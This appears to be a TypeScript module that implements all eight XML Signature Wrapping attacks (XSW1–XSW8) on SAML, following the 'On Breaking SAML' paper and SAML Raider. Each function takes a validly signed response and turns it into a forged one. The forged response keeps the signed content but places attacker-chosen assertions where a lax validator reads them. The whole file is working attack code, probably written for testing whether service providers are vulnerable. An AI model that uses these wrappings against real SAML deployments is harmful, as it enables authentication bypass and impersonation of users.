import { DOMParser, XMLSerializer } from '@xmldom/xmldom'

/**
 * The eight ways to wrap a signature (Somorovsky et al., "On Breaking SAML", as SAML Raider numbers them). Each takes a validly signed
 * response and gives one that holds what was signed, and says something else where a careless reader looks.
 */
export const wrappings: Readonly<Record<string, (signed: string, evil: (xml: string) => string) => string>> = {
  'XSW1: the signed response in the signature of a forged one': (signed, evil) => {
    const forged = parse(evil(signed))
    const signature = find(forged, 'Signature')
    signature.appendChild(imported(forged, without(parse(signed), 'Signature')))
    return renamed(forged, 'Response')
  },
  'XSW2: the signed response before the signature of a forged one': (signed, evil) => {
    const forged = parse(evil(signed))
    const signature = find(forged, 'Signature')
    signature.parentNode?.insertBefore(imported(forged, without(parse(signed), 'Signature')), signature)
    return renamed(forged, 'Response')
  },
  'XSW3: a forged assertion before the signed one': (signed, evil) => {
    const both = parse(signed)
    const original = find(both, 'Assertion')
    original.parentNode?.insertBefore(forgedAssertion(both, signed, evil), original)
    return print(both)
  },
  'XSW4: the signed assertion in a forged one': (signed, evil) => {
    const both = parse(signed)
    const original = find(both, 'Assertion')
    const forged = forgedAssertion(both, signed, evil)
    original.parentNode?.replaceChild(forged, original)
    forged.appendChild(original)
    return print(both)
  },
  'XSW5: a forged assertion carries the signature, the signed one follows without': (signed, evil) => {
    const both = parse(signed)
    const original = find(both, 'Assertion')
    const forged = forgedAssertion(both, signed, evil)
    const parent = original.parentNode
    const signature = find(both, 'Signature')
    forged.insertBefore(original.removeChild(signature), forged.childNodes[1] ?? null)
    parent?.insertBefore(forged, original)
    return print(both)
  },
  'XSW6: the signed assertion in the signature of a forged one': (signed, evil) => {
    const both = parse(signed)
    const original = find(both, 'Assertion')
    const forged = forgedAssertion(both, signed, evil)
    const signature = find(both, 'Signature')
    original.parentNode?.replaceChild(forged, original)
    forged.insertBefore(original.removeChild(signature), forged.childNodes[1] ?? null)
    signature.appendChild(original)
    return print(both)
  },
  'XSW7: a forged assertion in extensions': (signed, evil) => {
    const both = parse(signed)
    const original = find(both, 'Assertion')
    const extensions = both.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
    extensions.appendChild(forgedAssertion(both, signed, evil, false))
    original.parentNode?.insertBefore(extensions, original)
    return print(both)
  },
  'XSW8: the signed assertion as an object of the signature of a forged one': (signed, evil) => {
    const both = parse(signed)
    const original = find(both, 'Assertion')
    const forged = forgedAssertion(both, signed, evil, false)
    const signature = find(both, 'Signature')
    original.parentNode?.replaceChild(forged, original)
    forged.insertBefore(original.removeChild(signature), forged.childNodes[1] ?? null)
    const object = both.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object')
    object.appendChild(original)
    signature.appendChild(object)
    return print(both)
  },
}

/** Whether what was signed is still in there, unchanged: otherwise it is no wrapping but a broken signature. */
export function holdsSigned(wrapped: string): boolean {
  const elements = Array.from(parse(wrapped).getElementsByTagName('*'))
  const uri = elements.find(({ localName }) => localName === 'Reference')?.getAttribute('URI')
  return elements.some((element) => `#${element.getAttribute('ID')}` === uri)
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml')
}

function print(document: Document): string {
  return new XMLSerializer().serializeToString(document)
}

function find(document: Document, name: string): Element {
  const [element] = Array.from(document.getElementsByTagName('*')).filter(({ localName }) => localName === name)
  if (element === undefined) throw new Error(`no ${name}`)
  return element
}

function imported(into: Document, from: Document): Element {
  return into.importNode(from.documentElement, true) as Element
}

function without(document: Document, name: string): Document {
  const element = find(document, name)
  element.parentNode?.removeChild(element)
  return document
}

function renamed(document: Document, name: string): string {
  find(document, name).setAttribute('ID', '_forged')
  return print(document)
}

function forgedAssertion(into: Document, signed: string, evil: (xml: string) => string, rename = true): Element {
  const forged = into.importNode(find(without(parse(evil(signed)), 'Signature'), 'Assertion'), true) as Element
  if (rename) forged.setAttribute('ID', '_forged')
  return forged
}
